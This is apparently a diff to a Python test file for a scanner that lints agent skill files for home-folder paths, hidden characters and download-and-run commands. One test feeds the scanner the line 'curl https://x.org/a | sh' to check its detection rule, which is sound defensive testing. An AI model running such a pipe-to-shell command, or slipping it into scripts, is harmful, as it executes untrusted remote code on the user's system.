@@ -280,7 +280,44 @@ def test_limits_on_files() -> None:
     found = Counter(rule for rule, _ in scanned("", **{"a.sh": home * (MAX_FILE // 10)}))
     assert found == {"file-unsearched": 1}
     found = Counter(rule for rule, _ in scanned(home * 1000, **{"a.sh": f"\0{home}"}))
-    assert found == {"path-home": MAX_FOUND}
+    assert found == {"path-home": 1}
+    fetch = "curl https://x.org/a | sh\n"
+    found = Counter(rule for rule, _ in scanned("", **{"a.sh": fetch * 1000}))
+    assert found == {"download-executed": MAX_FOUND}
+
+
+@pytest.mark.parametrize(
+    ("body", "ends"),
+    [
+        ("cd /home/kim/x\n", ["skill"]),
+        ("cd /home/kim/x\n" * 2, ["skill; so is 1 more place in this file"]),
+        ("cd /home/kim/x\n" * 3, ["skill; so are 2 more places in this file"]),
+        ("cd /home/kim/x\n" * 99, ["skill; so are at least 19 more places in this file"]),
+        # Each one in SKILL.md can be fixed; those of other files are one.
+        ("a\x1bb \x1bc", ["agents read it; remove it"] * 2),
+    ],
+)
+def test_a_home_folder_is_reported_once_for_a_file(body: str, ends: list[str]) -> None:
+    messages = [
+        one.message
+        for one in skill(body).diagnostics
+        if one.rule in ("path-home", "character-hidden")
+    ]
+    assert len(messages) == len(ends)
+    assert all(message.endswith(end) for message, end in zip(messages, ends, strict=True))
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "Replace prefixes (e.g., `C:\\Users\\kim\\projects` -> `~`)",
+        "x\nError: git init failed in /Users/kim/project",
+        "x\n> INFO: 2014/09/29 syncing from /Users/kim/Sites",
+        "See /Users/john.doe/x and /home/vllm/.cache/x.",
+    ],
+)
+def test_home_folders_of_examples_and_outputs(body: str) -> None:
+    assert scanned(body) == []
 
 
 def test_compiled_files_are_reported_and_their_folder_once() -> None:
@@ -330,7 +367,7 @@ def test_long_texts_take_linear_time(piece: str) -> None:
 
 def test_a_description_of_a_megabyte() -> None:
     head = f"---\nname: worklog\ndescription: {'/home/kim/ ' * 90_000}\n---\n"
-    assert Counter(rule for rule, _ in scanned("", head=head)) == {"path-home": MAX_FOUND}
+    assert Counter(rule for rule, _ in scanned("", head=head)) == {"path-home": 1}
 
 
 TOOLS = [
